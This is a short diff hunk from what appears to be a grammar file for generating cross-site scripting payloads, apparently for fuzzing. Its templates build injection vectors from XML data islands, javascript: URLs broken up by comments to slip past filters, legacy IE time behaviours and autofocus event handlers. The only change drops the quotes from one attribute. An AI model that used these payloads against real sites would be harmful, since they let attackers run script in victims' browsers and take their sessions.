@@ -443,7 +443,7 @@ xs.elem: 8× <‹=t:‹xs.t››‹xs.sp›‹xs.pre›‹:ev:‹xs.evhover›�
   <‹layer¦ilayer› src="‹xs.url›"></layer>
   <xml id=‹=i:‹~1-4››><‹~1-3›><b>&lt;script&gt;‹xs.base›(‹n›)&lt;/script&gt;</b></‹~1-3›></xml><span datasrc=#‹=i› datafld=b dataformatas=html></span>
   <xml id="‹=i:‹~1-4››"><i><b><img src="javas<!-- -->cript:‹xs.base›(‹n›)"></b></i></xml><span datasrc="#‹=i›" datafld="b" dataformatas="html"></span>
-  <?xml:namespace prefix=t ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="‹xs.basic›">
+  <?xml:namespace prefix=t ns="urn:schemas-microsoft-com:time"><?import namespace=t implementation="#default#time2"><t:set attributeName="innerHTML" to="‹xs.basic›">
   <event-source src="‹xs.url›" ‹:ev:load›‹xs.h›>
   <‹=t:‹xs.t››‹×3-12 :‹xs.decoy››‹xs.gap›‹:ev:‹xs.ev››‹xs.h›‹xs.end›‹xs.close›
 xs.focus: 6× <‹input¦input¦textarea¦select¦button¦keygen¦INPUT¦iNpUt›‹xs.sp›‹:ev:‹xs.evfocus››‹xs.h›‹xs.gap›autofocus‹xs.end›
